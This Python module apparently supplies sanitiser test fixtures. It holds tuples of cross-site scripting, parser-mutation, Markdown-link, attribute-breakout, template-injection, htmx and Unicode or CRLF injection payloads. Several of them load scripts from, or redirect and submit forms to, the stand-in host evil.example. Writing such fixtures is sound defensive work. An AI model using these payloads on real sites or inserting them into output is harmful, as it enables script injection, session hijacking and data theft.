"""Words that would run, load, send or cover something if a page took them for HTML, for an address or for a template.

All are our own. What runs says so: it opens a dialog with ``alert(1)`` or sets ``window.ran``; what loads asks
``evil.example``.
"""

from __future__ import annotations

from typing import Final

ELEMENTS: Final = (
    "<script>alert(1)</script>",
    "<script>window.ran=1</script>",
    "<ScRiPt/x>window.ran=1</sCrIpT >",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=window.ran=1>",
    '<IMG SRC="jav&#x0A;ascript:alert(1)">',
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>a</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:window.parent.ran=1></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/a.swf>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>a</button></form>",
    '<a href="x" style="position:fixed;inset:0">a</a>',
    "<plaintext><xmp><script>alert(1)</script>",
    "<template><script>window.ran=1</script></template>",
    "<slot onslotchange=window.ran=1><p slot=x>a</p></slot>",
)
"""Elements and their attributes."""

DRAWINGS: Final = (
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=window.ran=1></foreignObject></svg>",
    "<svg><a xlink:href='javascript:window.ran=1'><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=alert(1)></svg>#a'/></svg>",
    "<svg><set attributeName=onmouseover to=window.ran=1>",
)
"""SVG."""

MUTATIONS: Final = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=window.ran=1&gt;</listing>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=window.ran=1>]]>",
    "<a><table><a><style><img src=x onerror=window.ran=1>",
)
"""What a parser reads otherwise than the one that cleaned it."""

MARKDOWN: Final = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;window.ran=1)",
    "[a](java\tscript:alert(1))",
    "[a](<java\x01script:window.ran=1>)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](vbscript:msgbox(1))",
    "[a](//evil.example/a 'x')",
    "[a][1]\n\n[1]: javascript:window.ran=1",
    "<javascript:window.ran=1>",
    "![a](https://evil.example/read.png)",
    '![a](x"onerror="alert(1))',
    '[a](https://a.example "x\\" onmouseover=\\"window.ran=1")',
    '<https://evil.example/"onmouseover=alert(1)//>',
    "[<img src=x onerror=window.ran=1>](https://a.example)",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '```html" onmouseover="window.ran=1\na\n```',
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <img src=x onerror=window.ran=1>\n\n***<b onclick=window.ran=1>a</b>***",
)
"""Links, pictures, code and tables of Markdown."""

ATTRIBUTES: Final = (
    '"><script>alert(1)</script>',
    "'><img/src/onerror=alert(1)>",
    '" autofocus onfocus=window.ran=1 x="',
    "' onmouseover='window.ran=1",
    "` onmouseover=window.ran=1 `",
    "x onmouseover=window.ran=1 y=",
    "</textarea><script>alert(1)</script>",
    "</title></style></option></select></svg><script>window.ran=1</script>",
    '“<script>alert(1)</script>” and "<img src=x onerror=alert(1)>"',
    '\'}\' data-csrf="x" hx-headers=\'{"X-CSRF-Token": "x"}',
)
"""What breaks out of an attribute or of a text field."""

FRAMEWORKS: Final = (
    "{{ 7*7 }}{% raw %}${7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('window.ran=1')()}}",
    "{count}{0.__class__}{t.__init__.__globals__}%s%(x)s",
    "<%= 7*7 %>#{7*7}*{7*7}@(7*7)",
    '<p hx-get="/app/chat" hx-trigger="load">a</p>',
    '<p data-hx-post="/app/signout" data-hx-trigger="load">a</p>',
    "<div hx-on:click='alert(1)' hx-on::load='window.ran=1' data-trace=x>a</div>",
    '<p hx-vals=\'js:{a: window.ran=1}\' hx-get="/app/chat" hx-trigger="load">a</p>',
    "<a id=toasts><a id=toasts name=dataset><form id=dialog><input name=open><img name=csrf>",
    '<p data-undo="/app/signout" data-edit=x data-again=x data-suggest=x data-close>a</p>',
    "</script><script>window.ran=1</script>\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
"""Templates, plural forms, htmx, and the names that our own scripts look for."""

LETTERS: Final = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>window.ran=1</\u017fcript>",
    "[a](java\u200bscript:window.ran=1)",
    "[a](\u2028javascript:window.ran=1)",
    "\u202e<script>alert(1)</script>\u202c",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "<img src=x onerror\u00a0=window.ran=1>\ufeff<img src=x onerror\x0c=\x0cwindow.ran=1>",
    "a\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
)
"""Letters that look, fold or decode to others."""

ATTACKS: Final = (*ELEMENTS, *DRAWINGS, *MUTATIONS, *MARKDOWN, *ATTRIBUTES, *FRAMEWORKS, *LETTERS)
